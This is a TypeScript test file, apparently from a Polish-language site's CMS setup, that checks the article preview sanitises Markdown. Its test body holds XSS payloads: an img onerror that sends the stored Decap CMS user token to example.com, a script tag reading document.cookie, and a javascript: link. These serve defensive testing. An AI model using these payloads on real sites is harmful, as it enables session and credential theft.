/**
 * The article preview beside the editor renders an entry's Markdown as the
 * site's styles show it, without anything in it that would run on the
 * editor's page.
 */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { CreateElement, ImmutableMap } from "./decap-types.ts";
import { ArticlePreview } from "./previews.ts";

interface Rendered {
  type: string;
  props: Record<string, unknown> | null;
  children: unknown[];
}

const createElement: CreateElement = (type, props, ...children): Rendered => ({
  type,
  props,
  children,
});

/** Every HTML string the preview hands React as markup. */
function injectedHtml(node: unknown): string[] {
  if (node === null || typeof node !== "object" || !("children" in node)) return [];
  const { props, children } = node as Rendered;
  const own = props?.dangerouslySetInnerHTML as { __html: string } | undefined;
  return [...(own ? [own.__html] : []), ...children.flatMap(injectedHtml)];
}

function entryWith(polishBody: string): ImmutableMap {
  const sides: Record<string, unknown> = {
    data: { title: "Tytuł", excerpt: "Zajawka", body: polishBody },
    "i18n.en.data": { title: "Title", excerpt: "Excerpt", body: "" },
  };
  const entry: ImmutableMap = {
    get: () => undefined,
    getIn: (path) => {
      const value = sides[path.join(".")];
      return value === undefined ? undefined : { toJS: () => value };
    },
    set: () => entry,
    deleteIn: () => entry,
    toJS: () => sides,
  };
  return entry;
}

describe("the article preview", () => {
  beforeEach(() => {
    Reflect.set(globalThis, "window", { h: createElement });
  });
  afterEach(() => {
    Reflect.deleteProperty(globalThis, "window");
  });

  it("shows the body's markup without scripts, event handlers or script links", () => {
    const body = [
      "Zwykły **tekst** i [link](/kontakt).",
      "",
      "<img src=x onerror=\"fetch('https://example.com/?'+localStorage.getItem('decap-cms-user'))\">",
      "",
      "<script>alert(document.cookie)</script>",
      "",
      "[kliknij](javascript:alert(1))",
    ].join("\n");
    const [html = ""] = injectedHtml(
      ArticlePreview({ entry: entryWith(body), getAsset: () => undefined }),
    );
    expect(html).toContain("<strong>tekst</strong>");
    expect(html).toContain('<a href="/kontakt">link</a>');
    expect(html).toContain('<img src="x">');
    expect(html).not.toMatch(/onerror|<script|javascript:/i);
  });
});
